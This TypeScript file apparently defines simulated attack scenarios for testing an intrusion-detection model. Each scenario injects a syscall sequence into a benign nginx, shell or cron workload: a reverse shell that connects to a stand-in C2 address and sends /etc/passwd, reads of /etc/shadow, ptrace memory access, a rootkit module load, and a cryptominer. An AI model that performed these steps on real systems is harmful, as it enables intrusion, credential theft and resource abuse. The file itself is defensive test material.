/**
 * Attacks, each injected into a benign workload. The driver marks everything an attack emits as
 * `carrier`: steps that a model of the benign workload accepts (a shell forking, an exec, which
 * TSEM-6.12 does not model as an event). The attack marks every event whose point the benign
 * workload never produces as `malicious`. Once sealed, the
 * first malicious event of a task is off-contour and the task untrusted, so its later events are
 * not modeled (§3.5).
 */
import { PROGRAMS } from './programs.js';
import { AF_INET, IPPROTO_TCP, OPEN, SOCK_STREAM } from './sim-process.js';
import { type AttackKind } from './workload.js';
import { CRON_BACKUP, type CronBackupWorkload } from './workloads/cron-backup.js';
import { NGINX, type NginxWorkload } from './workloads/nginx.js';
import { SHELL, type ShellWorkload } from './workloads/shell.js';

/** Documentation address ranges (RFC 5737): never a real host. */
const C2_HOST = '203.0.113.66';
const POOL_HOST = '198.51.100.23';
/** ptrace.h: PTRACE_MODE_ATTACH | PTRACE_MODE_REALCREDS. */
const PTRACE_MODE_ATTACH_REALCREDS = 0x12;
/** kernel_read_file_id READING_MODULE and kernel_load_data_id LOADING_MODULE. */
const READING_MODULE = 2;
const LOADING_MODULE = 2;

export const REVERSE_SHELL: AttackKind<NginxWorkload> = {
  name: 'reverse-shell',
  description: `an nginx worker execs /bin/sh, connects out to ${C2_HOST}:4444 and runs cat /etc/passwd for the peer`,
  base: NGINX,
  inject(s, w, rng) {
    const victim = rng.pick(s.workers);
    victim.execve(PROGRAMS.sh);
    w.inject('malicious', () => {
      victim.load(PROGRAMS.sh);
      const sock = victim.socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
      victim.connect(sock, { af_inet: { port: 4444, address: C2_HOST } });
      victim.recvmsg(sock);
      const cat = victim.fork();
      w.inject('carrier', () => cat.execve(PROGRAMS.cat));
      cat.load(PROGRAMS.cat);
      cat.open('/etc/passwd', OPEN.read);
      victim.sendmsg(sock);
    });
    s.replaceWorker(victim);
  },
};

export const SHADOW_READ: AttackKind<ShellWorkload> = {
  name: 'shadow-read',
  description: 'the shell runs cat /etc/shadow: a known program reading a file it never reads',
  base: SHELL,
  inject(s, w) {
    const cat = s.forkJob();
    cat.exec(PROGRAMS.cat);
    w.inject('malicious', () => void cat.open('/etc/shadow', OPEN.read));
    s.reclaimTerminal();
  },
};

export const PTRACE: AttackKind<ShellWorkload> = {
  name: 'ptrace',
  description: 'a static binary dropped in /tmp attaches to the login shell and opens its memory',
  base: SHELL,
  inject(s, w) {
    const tracer = s.forkJob();
    tracer.execve(PROGRAMS.inject);
    w.inject('malicious', () => {
      tracer.ptraceAccessCheck(s.bash, PTRACE_MODE_ATTACH_REALCREDS);
      tracer.open(`/proc/${s.bash.pid}/mem`, OPEN.readWrite);
    });
    s.reclaimTerminal();
  },
};

export const KERNEL_MODULE: AttackKind<ShellWorkload> = {
  name: 'kernel-module',
  description:
    'insmod loads /tmp/rk.ko (finit_module), which requests nf_conntrack and loads a second module from memory',
  base: SHELL,
  inject(s, w) {
    const insmod = s.forkJob();
    insmod.execve(PROGRAMS.insmod);
    w.inject('malicious', () => {
      insmod.load(PROGRAMS.insmod);
      insmod.open('/tmp/rk.ko', OPEN.readCloexec);
      insmod.kernelReadFile('/tmp/rk.ko', READING_MODULE);
      insmod.kernelModuleRequest('nf_conntrack');
      insmod.kernelLoadData(LOADING_MODULE);
    });
    s.reclaimTerminal();
  },
};

export const CRYPTOMINER: AttackKind<CronBackupWorkload> = {
  name: 'cryptominer',
  description: `a planted cron job execs /tmp/.xmr/xmrig, which lowers its priority and connects to a pool at ${POOL_HOST}:3333`,
  base: CRON_BACKUP,
  inject(s, w) {
    const miner = s.startJob().fork();
    miner.execve(PROGRAMS.xmrig);
    w.inject('malicious', () => {
      miner.open('/tmp/.xmr/config.json', OPEN.read);
      miner.setnice(19);
      miner.open('/proc/cpuinfo', OPEN.read);
      const sock = miner.socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
      miner.connect(sock, { af_inet: { port: 3333, address: POOL_HOST } });
      for (let i = 0; i < 3; i++) {
        miner.sendmsg(sock);
        miner.recvmsg(sock);
      }
    });
  },
};

export const ATTACKS = [REVERSE_SHELL, SHADOW_READ, PTRACE, KERNEL_MODULE, CRYPTOMINER] as const;
